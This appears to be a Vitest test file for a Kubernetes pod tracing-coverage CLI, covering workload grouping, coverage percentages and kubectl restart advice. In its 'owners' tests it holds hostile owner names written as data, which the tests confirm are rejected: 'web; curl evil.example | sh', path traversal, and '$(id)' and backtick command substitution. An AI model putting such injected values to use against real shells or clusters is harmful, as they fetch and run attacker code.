import { describe, expect, test } from 'vitest'
import { coverageOf, noPods, sumCounts } from '../../../src/cli/pod-coverage/pod-state.ts'
import { restartAdvice, untracedWorkloads } from '../../../src/cli/pod-coverage/restart-advice.ts'
import { ownerOf, podWorkload, shownWorkload } from '../../../src/cli/pod-coverage/workload.ts'
import { createCoverageGroups } from '../../../src/cli/pod-coverage/workload-coverage.ts'

const workload = (kind: string, name: string, group = 'apps') => ({ namespace: 'shop', group, kind, name })
const traced = { state: 'traced', collector: 'c.obs:4317', sentences: [] } as const
const missed = { state: 'missed', sentences: [] } as const
const invalid = (sentence: string) => ({ state: 'invalid', reason: 'invalid-setting', sentences: [sentence] }) as const

describe('groups', () => {
  test('Pods of a ReplicaSet and of its successor are those of their Deployment', () => {
    const groups = createCoverageGroups()
    groups.add(workload('ReplicaSet', 'web-1'), missed)
    groups.add(workload('ReplicaSet', 'web-2'), traced)
    groups.add(workload('ReplicaSet', 'web-2'), traced)
    for (const name of ['web-1', 'web-2', 'web-0'])
      groups.join(workload('ReplicaSet', name), workload('Deployment', 'web'))
    expect(groups.workloads()).toEqual([
      {
        ...workload('Deployment', 'web'),
        counts: { ...noPods(), traced: 2, missed: 1 },
        collectors: ['c.obs:4317'],
        findings: [missed],
      },
    ])
  })

  test('what is the same is kept once, and what is different only so often', () => {
    const groups = createCoverageGroups()
    const web = workload('Deployment', 'web')
    for (let index = 0; index < 1_000; index++) groups.add(web, invalid(String(index % 20)))
    const [found] = groups.workloads()
    expect(found?.counts.invalid).toBe(1_000)
    expect(found?.findings.map(({ sentences }) => sentences[0])).toEqual(['0', '1', '2', '3', '4'])
  })

  test('they come in the order of their names', () => {
    const groups = createCoverageGroups()
    for (const name of ['b', 'c', 'a']) groups.add(workload('DaemonSet', name), traced)
    expect(groups.workloads().map(({ name }) => name)).toEqual(['a', 'b', 'c'])
  })
})

describe('owners', () => {
  const owned = (...ownerReferences: object[]) => ({ metadata: { namespace: 'shop', name: 'x', ownerReferences } })

  test('the controller counts, not another owner', () => {
    const other = { apiVersion: 'v1', kind: 'Node', name: 'n' }
    const controller = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', name: 'web', controller: true }
    expect(ownerOf(owned(other, controller))).toEqual(workload('Rollout', 'web', 'argoproj.io'))
    expect(ownerOf(owned(other))).toBeUndefined()
  })

  // Commands for a shell have these names in them, and whoever may create a Pod may say anything here.
  test.each([
    { apiVersion: 'apps/v1', kind: 'Deployment', name: 'web; curl evil.example | sh' },
    { apiVersion: 'apps/v1', kind: 'Deployment', name: '../../kube-system/deployments/coredns' },
    { apiVersion: 'apps/v1', kind: 'Deployment', name: '..' },
    { apiVersion: 'apps/v1', kind: 'Deployment', name: 'web\n' },
    { apiVersion: 'apps/v1', kind: '$(id)', name: 'web' },
    { apiVersion: '`id`/v1', kind: 'Rollout', name: 'web' },
  ])('what no object can be called is no owner: %j', (owner) => {
    expect(podWorkload(owned({ ...owner, controller: true }))).toEqual(workload('Pod', 'x', ''))
  })

  test('a Pod that nothing made is a workload of its own', () => {
    expect(podWorkload(owned())).toEqual(workload('Pod', 'x', ''))
  })

  test('they are named as kubectl names them', () => {
    expect(shownWorkload(workload('StatefulSet', 'db'))).toBe('statefulset/db')
    expect(shownWorkload(workload('Rollout', 'web', 'argoproj.io'))).toBe('rollout.argoproj.io/web')
  })
})

describe('coverage in per cent', () => {
  test.each([
    [{}, undefined],
    [{ 'not-meshed': 3, 'opted-out': 1, out: 2, 'own-component': 1 }, undefined],
    [{ traced: 3, 'not-meshed': 9 }, 100],
    [{ traced: 999, missed: 1 }, 99],
    [{ traced: 1, waiting: 1, untraced: 1, invalid: 1 }, 25],
    [{ invalid: 1 }, 0],
  ])('%j: %s', (counts, percent) => {
    expect(coverageOf({ ...noPods(), ...counts })).toBe(percent)
  })

  test('counts are summed state by state', () => {
    const sum = sumCounts([
      { ...noPods(), traced: 1 },
      { ...noPods(), traced: 2, missed: 1 },
    ])
    expect(sum).toEqual({ ...noPods(), traced: 3, missed: 1 })
  })
})

describe('how to restart', () => {
  test('one command a Namespace, and a sentence for what kubectl does not roll', () => {
    const elsewhere = { ...workload('DaemonSet', 'agent'), namespace: 'agents' }
    expect(
      restartAdvice([
        workload('Deployment', 'web'),
        workload('Pod', 'alone', ''),
        workload('StatefulSet', 'db'),
        elsewhere,
        workload('CronJob', 'nightly', 'batch'),
        workload('Deployment', 'odd', 'example.com'),
      ]),
    ).toEqual({
      commands: [
        'kubectl rollout restart -n shop deployment/web statefulset/db',
        'kubectl rollout restart -n agents daemonset/agent',
      ],
      sentences: [
        'pod/alone in shop: nothing makes it anew: delete it, and create it again',
        'cronjob/nightly in shop: its next run is a new Pod',
        'deployment.example.com/odd in shop: restart it by what made it',
      ],
    })
  })

  test('a restart helps what waits, was missed, or is untraced; not what is invalid', () => {
    const groups = createCoverageGroups()
    groups.add(workload('Deployment', 'bad'), invalid('x'))
    groups.add(workload('Deployment', 'good'), traced)
    for (const state of ['waiting', 'missed', 'untraced'] as const)
      groups.add(workload('Deployment', state), { state, sentences: [] })
    expect(untracedWorkloads(groups.workloads()).map(({ name }) => name)).toEqual(['missed', 'untraced', 'waiting'])
  })
})
